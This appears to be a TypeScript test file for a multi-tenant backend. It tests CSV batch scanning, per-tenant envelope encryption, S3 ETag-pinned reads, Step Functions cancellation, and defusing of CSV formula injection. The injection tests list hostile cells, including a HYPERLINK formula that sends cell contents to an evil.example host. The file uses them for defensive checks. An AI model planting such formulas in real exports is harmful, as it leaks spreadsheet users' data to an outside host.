import { GetObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { ExecutionDoesNotExist, SFNClient, StopExecutionCommand } from '@aws-sdk/client-sfn';
import { mockClient } from 'aws-sdk-client-mock';
import { randomBytes } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { FileObjectStore } from '../../shared/adapters/objects/file-object-store';
import { S3ObjectStore } from '../../shared/adapters/objects/s3-object-store';
import { SfnJobRunner } from '../../shared/adapters/jobs/sfn-job-runner';
import { jobCompleteEvent } from '../../shared/schemas/jobs';
import { LocalSecretBox, localSecretBoxCalls } from '../../shared/adapters/secrets/local-secret-box';
import { exportField, importCell, spreadsheetCell } from '../../shared/domain/jobs/csv';
import { scanCsv } from '../../shared/domain/jobs/manifest';
import { ObjectChangedError } from '../../shared/domain/jobs/records';
import { PayloadTooLargeError, ValidationError } from '../../shared/domain/errors';
import { oathSecretContext } from '../../shared/domain/otp/records';

async function* chunks(text: string, size: number): AsyncIterable<Uint8Array> {
  const bytes = Buffer.from(text);
  for (let i = 0; i < bytes.length; i += size) yield bytes.subarray(i, i + size);
}

describe('R19 bulk jobs: the batch manifest of an upload', () => {
  const file = 'userId,firstName\na,"Ann\nMulti-line"\nb,Bob\n\nc,"Quote "" inside"\nd,Dee\ne,Eve';

  it.each([1, 3, 7, 1024])('cuts whole records into byte ranges, quote-aware, whatever the chunk size (%i bytes)', async (size) => {
    const manifest = await scanCsv(chunks(file, size), { batchRows: 2, maxRows: 100 });
    expect(manifest.header).toEqual(['userId', 'firstName']);
    expect(manifest.rows).toBe(5);
    const text = (r: { start: number; end: number }) => Buffer.from(file).subarray(r.start, r.end).toString();
    expect(manifest.batches.map((b) => ({ line: b.firstLine, text: text(b) }))).toEqual([
      { line: 2, text: 'a,"Ann\nMulti-line"\nb,Bob\n' },
      // The empty line (5) is no row and in no batch.
      { line: 6, text: 'c,"Quote "" inside"\nd,Dee\n' },
      { line: 8, text: 'e,Eve' },
    ]);
  });

  it('stops at the row limit with a 413 error, and refuses a file with no header', async () => {
    await expect(scanCsv(chunks(file, 5), { batchRows: 2, maxRows: 4 })).rejects.toThrow(PayloadTooLargeError);
    await expect(scanCsv(chunks('\n\n', 5), { batchRows: 2, maxRows: 4 })).rejects.toThrow(ValidationError);
  });
});

describe('R28 token secrets sealed per batch (envelope)', () => {
  const box = new LocalSecretBox(randomBytes(32).toString('base64'));
  const secrets = [randomBytes(20), randomBytes(20), randomBytes(32)];
  const contexts = ['T1', 'T2', 'T3'].map((serial) => oathSecretContext('tn_a', serial));

  it('wraps one data key for the lot, and each secret opens only for its own record and tenant', async () => {
    const before = localSecretBoxCalls.encrypt;
    const sealed = await box.sealMany(secrets.map((plaintext, i) => ({ plaintext, context: contexts[i] as (typeof contexts)[number] })));
    expect(localSecretBoxCalls.encrypt - before).toBe(1);
    expect(new Set(sealed).size).toBe(3);
    for (const [i, ciphertext] of sealed.entries()) {
      expect(Buffer.from(await box.decrypt(ciphertext, contexts[i] as (typeof contexts)[number]))).toEqual(secrets[i]);
    }
    await expect(box.decrypt(sealed[0] as string, contexts[1] as (typeof contexts)[number])).rejects.toThrow();
    await expect(box.decrypt(sealed[0] as string, oathSecretContext('tn_b', 'T1'))).rejects.toThrow();
  });

  it('refuses to seal secrets of different tenants under one key', async () => {
    await expect(box.sealMany([{ plaintext: secrets[0] as Buffer, context: oathSecretContext('tn_a', 'X') }, { plaintext: secrets[1] as Buffer, context: oathSecretContext('tn_b', 'Y') }])).rejects.toThrow(
      'share their kind and tenant',
    );
  });
});

describe('R19 users export: cells a spreadsheet would run as formulas (OWASP CSV injection)', () => {
  const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', '+14155550100', '-2+3', '@SUM(A1:A9)', '\tx', '\rx', "'=already", "''+twice"];

  it.each(hostile)('defuses %j with one leading quote, quoted, and a user import takes exactly that quote away', (value) => {
    const cell = spreadsheetCell(value);
    expect(cell).toBe(`'${value}`);
    expect(exportField(value)).toBe(`"${cell.replace(/"/g, '""')}"`);
    expect(importCell(cell)).toBe(value);
  });

  it('leaves every other cell as it was, a leading quote before plain text included', () => {
    for (const value of ['Ann', "O'Neill", "'Abdu", 'ann@example.com', '', 'a=b']) {
      expect(spreadsheetCell(value)).toBe(value);
      expect(importCell(value)).toBe(value);
    }
    expect(exportField('Smith, Jr.')).toBe('"Smith, Jr."');
  });
});

describe('R19 bulk jobs: the upload is read only as it was pinned at start', () => {
  const s3Mock = mockClient(S3Client);
  beforeEach(() => s3Mock.reset());
  const drain = async (body: AsyncIterable<Uint8Array>) => {
    const parts: Buffer[] = [];
    for await (const part of body) parts.push(Buffer.from(part));
    return Buffer.concat(parts).toString();
  };

  it('S3: a ranged GetObject carries IfMatch, and its 412 PreconditionFailed is ObjectChangedError', async () => {
    const store = new S3ObjectStore(new S3Client({ region: 'eu-west-1', credentials: { accessKeyId: 'test', secretAccessKey: 'test' } }), 'jobs');
    s3Mock.on(GetObjectCommand).rejects(Object.assign(new Error('At least one of the pre-conditions you specified did not hold'), { name: 'PreconditionFailed', $metadata: { httpStatusCode: 412 } }));
    await expect(drain(store.read('t/j/upload.csv', { start: 10, end: 20 }, '"abc"'))).rejects.toThrow(ObjectChangedError);
    expect(s3Mock.commandCalls(GetObjectCommand)[0]?.args[0].input).toEqual({ Bucket: 'jobs', Key: 't/j/upload.csv', Range: 'bytes=10-19', IfMatch: '"abc"' });
  });

  it('locally: the ETag changes when the object is replaced, and a read pinned to the old one is refused', async () => {
    const root = await mkdtemp(join(tmpdir(), 'objects-'));
    try {
      const store = new FileObjectStore(root, { baseUrl: 'http://localhost', masterKeyBase64: randomBytes(32).toString('base64'), clock: { now: () => Date.now() } });
      await store.write('t/j/upload.csv', ['first,file\n'], 'text/csv');
      const pinned = await store.stat('t/j/upload.csv');
      expect(pinned?.size).toBe(11);
      expect(await drain(store.read('t/j/upload.csv', { start: 0, end: 5 }, pinned?.etag))).toBe('first');
      await store.write('t/j/upload.csv', ['other,file\n'], 'text/csv');
      expect((await store.stat('t/j/upload.csv'))?.etag).not.toBe(pinned?.etag);
      await expect(drain(store.read('t/j/upload.csv', { start: 0, end: 5 }, pinned?.etag))).rejects.toThrow(ObjectChangedError);
    } finally {
      await rm(root, { recursive: true, force: true });
    }
  });
});

describe('R19 bulk jobs: cancel stops the execution on AWS, and its ABORTED event writes the report', () => {
  const sfnMock = mockClient(SFNClient);
  beforeEach(() => sfnMock.reset());
  const machine = 'arn:aws:states:eu-west-1:123456789012:stateMachine:Tessera-dev-Api-jobs';
  const runner = () => new SfnJobRunner(new SFNClient({ region: 'eu-west-1', credentials: { accessKeyId: 'test', secretAccessKey: 'test' } }), machine);
  const run = { tenantId: 'ten_1', jobId: 'job_AAAAAAAAAAAAAAAAAAAAAA', header: ['userId'] };

  it('stops the execution named after the job; one that does not exist (never started, gone) is no error', async () => {
    sfnMock.on(StopExecutionCommand).resolvesOnce({ stopDate: new Date() }).rejectsOnce(new ExecutionDoesNotExist({ message: 'no such execution', $metadata: {} }));
    await runner().stop(run);
    await runner().stop(run);
    expect(sfnMock.commandCalls(StopExecutionCommand).map((c) => c.args[0].input.executionArn)).toEqual([
      'arn:aws:states:eu-west-1:123456789012:execution:Tessera-dev-Api-jobs:job_AAAAAAAAAAAAAAAAAAAAAA',
      'arn:aws:states:eu-west-1:123456789012:execution:Tessera-dev-Api-jobs:job_AAAAAAAAAAAAAAAAAAAAAA',
    ]);
    sfnMock.on(StopExecutionCommand).rejects(new Error('throttled'));
    await expect(runner().stop(run)).rejects.toThrow('throttled');
  });

  it('the complete step reads the job from the execution’s ABORTED status event, and from nothing else of that kind', () => {
    const event = (status: string, input: string) => ({ source: 'aws.states', 'detail-type': 'Step Functions Execution Status Change', detail: { status, input, executionArn: `${machine}:x` } });
    expect(jobCompleteEvent.parse(event('ABORTED', JSON.stringify({ run, manifestKey: 'ten_1/job/manifest.json' })))).toEqual({ run });
    expect(jobCompleteEvent.parse({ run })).toEqual({ run });
    expect(jobCompleteEvent.safeParse(event('SUCCEEDED', JSON.stringify({ run }))).success).toBe(false);
    expect(jobCompleteEvent.safeParse(event('ABORTED', '{not json')).success).toBe(false);
    expect(jobCompleteEvent.safeParse(event('ABORTED', JSON.stringify({ run: { ...run, jobId: 'x' } }))).success).toBe(false);
  });
});
